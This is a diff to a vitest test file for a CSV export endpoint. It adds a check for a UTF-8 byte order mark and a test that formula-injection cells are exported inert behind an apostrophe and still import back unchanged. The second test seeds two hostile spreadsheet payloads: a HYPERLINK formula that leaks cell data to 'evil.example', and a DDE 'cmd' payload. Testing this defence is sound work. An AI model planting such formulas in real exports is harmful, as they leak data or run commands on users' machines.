@@ -1,13 +1,15 @@
+import { parse } from 'csv-parse/sync';
 import { XMLParser, XMLValidator } from 'fast-xml-parser';
 import request from 'supertest';
 import { describe, expect, it } from 'vitest';
 import { validateAtom } from '../../src/domain/formats/atom.js';
-import { claimsFromCsvRows, parseCsv } from '../../src/domain/formats/csv.js';
+import { claimsFromCsvRows } from '../../src/domain/formats/csv.js';
+import { parseCsv } from '../../src/domain/formats/csv-table.js';
 import { parseExport } from '../../src/domain/formats/export-json.js';
 import { validateTimelineJs } from '../../src/domain/formats/timelinejs.js';
 import type { Database } from '../../src/domain/types.js';
 import { loadSeedDatabase } from '../../src/seed-files.js';
-import { TEST_NOW } from '../helpers/app.js';
+import { TEST_NOW, emptyDatabase } from '../helpers/app.js';
 import { makeFormatsApp } from '../helpers/formats-app.js';
 
 /** The shipped story with every claim copied five times over: more claims than one timeline page holds. */
@@ -62,6 +64,38 @@ describe('GET /export.csv', () => {
     const expected = store.data.claims.filter((claim) => claim.topics.some((topic) => /ai features/i.test(topic)));
     expect(read.claims.map((claim) => claim.id).sort()).toEqual(expected.map((claim) => claim.id).sort());
     expect(parseCsv(res.text).length - 1).toBe(expected.reduce((rows, claim) => rows + Math.max(1, claim.attributions.length), 0));
+  });
+
+  it('when opened in a spreadsheet, then a UTF-8 byte order mark comes first, so a default import shows “–” and “ü” as written', async () => {
+    const { app } = await makeFormatsApp();
+    const res = await request(app).get('/export.csv').buffer(true).parse((response, done) => {
+      const chunks: Buffer[] = [];
+      response.on('data', (chunk: Buffer) => chunks.push(chunk));
+      response.on('end', () => done(null, Buffer.concat(chunks)));
+    });
+    const bytes = res.body as Buffer;
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(bytes.subarray(3).toString('utf8')).toMatch(/^claim_id,statement,/);
+    expect(bytes.toString('utf8')).toContain('2024 – 11 February 2025');
+  });
+
+  it('when a cell would run as a formula, then the download holds it inert behind an apostrophe, and an import reads back the text as typed', async () => {
+    const statement = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the source")';
+    const seeded = await makeFormatsApp({
+      seed: () => {
+        const db = loadSeedDatabase(TEST_NOW.toISOString());
+        return { ...db, claims: db.claims.map((claim, index) => (index === 0 ? { ...claim, statement, actors: ["=cmd|' /C calc'!A0", ...claim.actors] } : claim)) };
+      },
+    });
+    const csv = (await request(seeded.app).get('/export.csv').expect(200)).text;
+    const cells = parse(csv, { bom: true, relax_column_count: true }).flat();
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(cells).toContain(`'${statement}`);
+    const target = await makeFormatsApp({ seed: emptyDatabase });
+    await request(target.app).post('/import').attach('file', Buffer.from(csv), 'story.csv').expect(200);
+    const imported = target.store.data.claims.find((claim) => claim.id === seeded.store.data.claims[0]?.id);
+    expect(imported?.statement).toBe(statement);
+    expect(imported?.actors[0]).toBe("=cmd|' /C calc'!A0");
   });
 
   it('when a filter cannot be read, then the answer is a plain-text 400', async () => {
